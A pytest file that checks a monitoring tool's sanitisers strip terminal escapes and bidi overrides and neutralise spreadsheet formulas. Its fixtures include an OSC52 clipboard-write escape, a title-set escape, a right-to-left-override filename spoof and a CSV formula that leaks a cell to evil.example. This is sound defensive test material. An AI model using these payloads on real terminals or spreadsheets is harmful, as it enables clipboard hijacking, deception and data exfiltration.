"""Untrusted text made inert for terminals, JSON, logs and spreadsheets."""

from __future__ import annotations

import csv
import io
import json

import pytest
import structlog
from click.testing import CliRunner
from hostile import dangerous

from monitor.ops import logging as logging_setup
from monitor.ops import spreadsheet
from monitor.ops.terminal import bold, echo, inert, json_text, to_json, visible

OSC52 = "\x1b]52;c;cHduZWQ=\x07"  # writes "pwned" to the clipboard
TITLE_SET = "\x1b]0;owned\x07"
CSI_C1 = "\x9b2J"  # C1 CSI: clear the screen
RLO = "\u202e"  # right-to-left override
HOSTILE = f"Sanctions {OSC52}on {TITLE_SET}arms{CSI_C1} {RLO}txt.exe\u202c\r\bdone\x7f"
ARABIC_MARKS = "العقوبات\u200f (UN)\u200e \u061cبوتين\u200c"


def test_inert_strips_controls_and_bidi_overrides() -> None:
    out = inert(HOSTILE)
    assert dangerous(out) == []
    assert out == "Sanctions ]52;c;cHduZWQ=on ]0;ownedarms2J txt.exedone"


def test_inert_keeps_arabic_marks_newlines_and_tabs() -> None:
    assert inert(ARABIC_MARKS) == ARABIC_MARKS
    assert inert("line one\n\tline two") == "line one\n\tline two"
    assert inert("\u2067isolate\u2069 \u202bembed\u202c") == "isolate embed"


def test_visible_shows_what_was_removed() -> None:
    assert visible("a\x1bb\x9bc\u202ed") == "a\\x1bb\\x9bc\\u202ed"


def test_json_is_inert_and_lossless() -> None:
    value = {"title": HOSTILE, "ar": ARABIC_MARKS}
    text = to_json(value)
    assert dangerous(text) == []
    assert json.loads(text) == value  # the same value, read back
    assert "العقوبات" in text  # Arabic is not escaped
    raw_line = json.dumps(value, ensure_ascii=False)
    assert dangerous(raw_line)  # what json.dumps alone leaves: C1, DEL and RLO raw
    assert json.loads(json_text(raw_line)) == value and dangerous(json_text(raw_line)) == []


def test_echo_strips_parts_and_styles_only_its_own() -> None:
    import click

    @click.command()
    def show() -> None:
        echo(bold(HOSTILE), " | ", HOSTILE)

    result = CliRunner().invoke(show, color=True)
    assert dangerous(result.output.replace("\x1b[1m", "").replace("\x1b[0m", "")) == []
    assert result.output.count("\x1b") == 2  # bold on, bold off: ours, nothing else


def test_log_values_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    logging_setup.configure("info", "json", None)
    structlog.get_logger("test").warning("ALERT", title=HOSTILE, origin=["x" + RLO])
    err = capsys.readouterr().err
    assert dangerous(err) == []
    event = json.loads(err.splitlines()[-1])
    assert event["title"].startswith("Sanctions \\x1b]52;")
    assert event["origin"] == ["x\\u202e"]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["id", "title"])
    writer.writerow(spreadsheet.row({"id": 7, "title": value}))
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["7", "'" + value]


def test_ordinary_cells_and_numbers_are_unchanged() -> None:
    assert spreadsheet.row({"id": -3, "title": "Sanctions = pressure", "x": None}) == {
        "id": -3,
        "title": "Sanctions = pressure",
        "x": None,
    }
